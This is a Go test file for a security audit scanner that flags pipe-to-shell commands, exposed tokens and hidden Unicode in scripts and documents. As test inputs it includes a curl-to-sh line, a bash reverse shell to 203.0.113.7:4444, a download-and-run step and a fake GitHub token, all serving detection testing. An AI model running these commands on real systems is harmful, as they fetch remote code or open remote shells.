package audit

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/rogpeppe/go-internal/txtar"
)

// look is Text of a file that is at hand.
func look(t testing.TB, name, text string) Report {
	t.Helper()
	rep, err := Text(strings.NewReader(text), FormOf(name, []byte(text)), nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Bytes != int64(len(text)) {
		t.Errorf("%s: read %d bytes of %d", name, rep.Bytes, len(text))
	}
	return rep
}

var written = regexp.MustCompile(`\\u\{([0-9a-f]+)\}`)

// archive reads files in which characters are spelled.
func archive(t testing.TB, path string) []txtar.File {
	t.Helper()
	a, err := txtar.ParseFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for i := range a.Files {
		a.Files[i].Data = written.ReplaceAllFunc(a.Files[i].Data, func(m []byte) []byte {
			n, _ := strconv.ParseUint(string(m[3:len(m)-1]), 16, 32)
			return []byte(string(rune(n)))
		})
	}
	return a.Files
}

// Every bad item is found, by the rule that is meant.
func TestBadItems(t *testing.T) {
	files := archive(t, "testdata/bad.txtar")
	if len(files) < 60 {
		t.Errorf("only %d bad items", len(files))
	}
	for _, f := range files {
		rule, name, _ := strings.Cut(f.Name, " ")
		found := false
		rep := look(t, name, string(f.Data))
		for _, got := range rep.Findings {
			found = found || got.Rule == rule
			if got.Line < 1 || got.Line > bytes.Count(f.Data, []byte("\n"))+1 || got.Severity < Low {
				t.Errorf("%s: %+v", f.Name, got)
			}
		}
		if !found {
			t.Errorf("%s: not found among %+v in\n%s", f.Name, rep.Findings, f.Data)
		}
	}
}

// ordinary calls visit for items that nobody has to look at: the standard library, our own
// documents, the commands that the analysis of commands knows as harmless, each as an item,
// and those in testdata.
func ordinary(t testing.TB, visit func(name, text string)) {
	for _, f := range archive(t, "testdata/good.txtar") {
		visit(f.Name, string(f.Data))
	}
	err := filepath.WalkDir("../../stdlib/system", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		raw, err := os.ReadFile(p)
		visit(p, string(raw))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{"harmless.txt", "review-harmless.txt"} {
		raw, err := os.ReadFile("../command/testdata/corpus/" + c)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range strings.Split(string(raw), "\n") {
			if _, cmd, ok := strings.Cut(row, " | "); ok && row[0] != '#' && row[0] != ' ' {
				visit(fmt.Sprintf("%s-%d.md", c, i+1), "# A step\n\nThen do this:\n\n```bash\n"+cmd+"\n```\n\nand look at what it says.\n")
			}
		}
	}
}

// An ordinary item gives no alarm: nothing but what is said to be low, so that a finding is worth reading.
func TestOrdinaryItems(t *testing.T) {
	n := 0
	ordinary(t, func(name, text string) {
		n++
		for _, f := range look(t, name, text).Findings {
			if f.Severity == Low {
				continue
			}
			t.Errorf("%s:%d: %s %s: %s (%s)", name, f.Line, f.Severity, f.Rule, f.Excerpt, f.Says)
		}
	})
	if n < 200 {
		t.Errorf("only %d ordinary items", n)
	}
	t.Logf("%d ordinary items", n)
}

// What is bad is found behind any amount of text, in whatever a line is long, and the time
// grows with the text only: the 22 MB that hid things from two scanners in 2026.
func TestPaddingHidesNothing(t *testing.T) {
	size := 1 << 19
	if os.Getenv("RYE_SOAK") != "" {
		size = 22 << 20
	}
	for name, fill := range map[string]string{
		"lines.md": "Nothing to see here.\n", "one line.md": "Nothing to see here, and no end of it. ", "blank.md": "\n",
		"script.sh": "echo nothing to see\n", "commands.md": "curl -s https://example.org/a -o a\n", "fence.md": "```bash\necho hi\n```\n", "words.py": "x = 'curl'\n",
	} {
		text := strings.Repeat(fill, size/len(fill))
		rep := look(t, name, text+"\ncurl -s https://example.org/x | sh\nGITHUB=ghp_R4nd0mQ8wErTyUiOpAsDfGhJkLzXcVbNm2Q7\nsay\u202eyes\n")
		for _, rule := range []string{"pipe-to-shell", "secret", "hidden-unicode"} {
			if !slices.ContainsFunc(rep.Findings, func(f Finding) bool { return f.Rule == rule }) {
				t.Errorf("%s: no %s among %+v", name, rule, rep.Findings)
			}
		}
		if name == "commands.md" || name == "words.py" || name == "fence.md" {
			continue // judged one by one until that is too many, which is found
		}
		if rep := look(t, name, text); len(rep.Findings) > 0 {
			t.Errorf("%s: %+v", name, rep.Findings)
		}
	}
}

func hasHigh(r Report) bool {
	for _, f := range r.Findings {
		if f.Severity == High {
			return true
		}
	}
	return false
}

// Where more is found than is kept, the worst is kept.
func TestManyMildFindingsHideNoGraveOne(t *testing.T) {
	rep := look(t, "x.sh", strings.Repeat("pip install some-package\n", 500)+"curl -s https://example.org/x | sh\n")
	if !hasHigh(rep) || rep.More == 0 || len(rep.Findings) > 3*maxOfRule {
		t.Errorf("%d findings, %d more, high %v", len(rep.Findings), rep.More, hasHigh(rep))
	}
}

// The noise of one rule hides nothing of another, nor what is worse of its own.
func TestNoiseHidesNothing(t *testing.T) {
	rep := look(t, "x.md", strings.Repeat("see\u200bn `npx -y thing`\n", 300)+"curl -s https://example.org/x | sh\n")
	if !slices.ContainsFunc(rep.Findings, func(f Finding) bool { return f.Rule == "pipe-to-shell" }) || rep.More != 2*(300-maxOfRule) {
		t.Errorf("%d more, %+v", rep.More, rep.Findings)
	}
	rep = look(t, "x.sh", strings.Repeat("go install example.org/x@latest\n", 300)+"npx -y thing\n")
	if !hasHigh(rep) {
		t.Errorf("%+v", rep.Findings)
	}
}

// A finding in a script stands at its line.
func TestLineOfACommand(t *testing.T) {
	for text, want := range map[string]int{
		"#!/usr/bin/env bash\n# sh\nset -e\necho sh\ncurl -s https://example.org/x | sh\n": 5,
		"echo hi\n\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\necho done\n":                3,
		"echo a\nwget https://example.org/s.py\npython3 s.py --now\n":                      3,
	} {
		rep := look(t, "x.sh", text)
		if len(rep.Findings) == 0 || rep.Findings[0].Line != want {
			t.Errorf("%q: %+v, want line %d", text, rep.Findings, want)
		}
	}
}

// A secret is told, and not shown.
func TestSecretsAreNotShown(t *testing.T) {
	const token = "ghp_R4nd0mQ8wErTyUiOpAsDfGhJkLzXcVbNm2Q7"
	for _, line := range []string{"x=" + token, "curl -H 'Authorization: " + token + "' https://example.org/x | sh"} {
		for _, f := range look(t, "x.sh", line+"\n").Findings {
			if strings.Contains(f.Excerpt, token[8:]) {
				t.Errorf("%s shows the secret: %s", f.Rule, f.Excerpt)
			}
		}
	}
}

func TestFormOf(t *testing.T) {
	for _, c := range []struct {
		name, head string
		want       Form
	}{
		{"a.sh", "", Shell}, {"a.md", "", Prose}, {"a.py", "", Python}, {"run", "#!/bin/sh\n", Shell}, {"a.json", "", Code},
		{"a.png", "\x89PNG\r\n\x1a\n", binary},
		{"a.png", "#!/bin/sh\ncurl x | sh", Shell}, // a name proves nothing
	} {
		if got := FormOf(c.name, []byte(c.head)); got != c.want {
			t.Errorf("FormOf(%q, %q) = %v, want %v", c.name, c.head, got, c.want)
		}
	}
}

func TestReadersErrorIsTold(t *testing.T) {
	if _, err := Text(iotest.TimeoutReader(iotest.OneByteReader(strings.NewReader("ab"))), Prose, nil); err != iotest.ErrTimeout {
		t.Errorf("err = %v", err)
	}
}

// Any text is read to its end, with findings that stand where they say.
func FuzzText(f *testing.F) {
	for _, c := range archive(f, "testdata/bad.txtar") {
		f.Add(c.Name, string(c.Data))
	}
	f.Fuzz(func(t *testing.T, name, text string) {
		rep, err := Text(io.LimitReader(strings.NewReader(text), 64<<10), FormOf(name, []byte(text)), nil)
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Count(text, "\n") + 1
		for _, f := range rep.Findings {
			if f.Line < 1 || f.Line > lines || f.Rule == "" || f.Severity < Low {
				t.Errorf("%+v in %d lines", f, lines)
			}
		}
	})
}
